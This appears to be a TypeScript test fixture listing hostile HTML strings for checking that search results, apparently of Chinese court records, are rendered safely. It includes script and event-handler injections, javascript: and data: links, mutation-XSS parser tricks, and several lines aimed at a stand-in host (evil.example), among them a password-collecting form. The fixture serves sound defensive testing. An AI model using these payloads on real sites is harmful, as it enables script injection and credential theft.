/** Search results of C-000015: texts that try to run scripts, to prompt and to imitate the app's own. */

const EVIL = 'https://evil.example/leak'

/** A name that is not HTML: it is shown as it is written. */
export const HOSTILE_WORDS = '<img src=x onerror=alert(1)>"法院\' & 公司'

export const HOSTILE_PARTS: readonly string[] = [
  '<script>top.ran=1</script>',
  '<img src=x onerror="top.ran=1">',
  `<img src="${EVIL}.png" alt="盖章">`,
  '<a href="javascript:top.ran=1">查看原文</a>',
  '<a href="data:text/html,<script>top.ran=1</script>">查看附件</a>',
  `<p style="background:url(${EVIL}.png);position:fixed;inset:0">x</p>`,
  `<style>@import url(${EVIL}.css); body{display:none}</style>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<form action="${EVIL}"><input name="password"><button>确定</button></form>`,
  '<svg onload="top.ran=1"><script>top.ran=1</script></svg>',
  `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
  '<details open ontoggle="top.ran=1"><summary>x</summary></details>',
  '<div onclick="top.ran=1" onpointerenter="top.ran=1">全文</div>',
  `<a href="https://court.example/" ping="${EVIL}" target="_top">中国裁判文书网</a>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=top.ran=1>"></noscript>',
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<video src="${EVIL}.mp4" poster="${EVIL}.png" onerror="top.ran=1" autoplay></video>`,
]
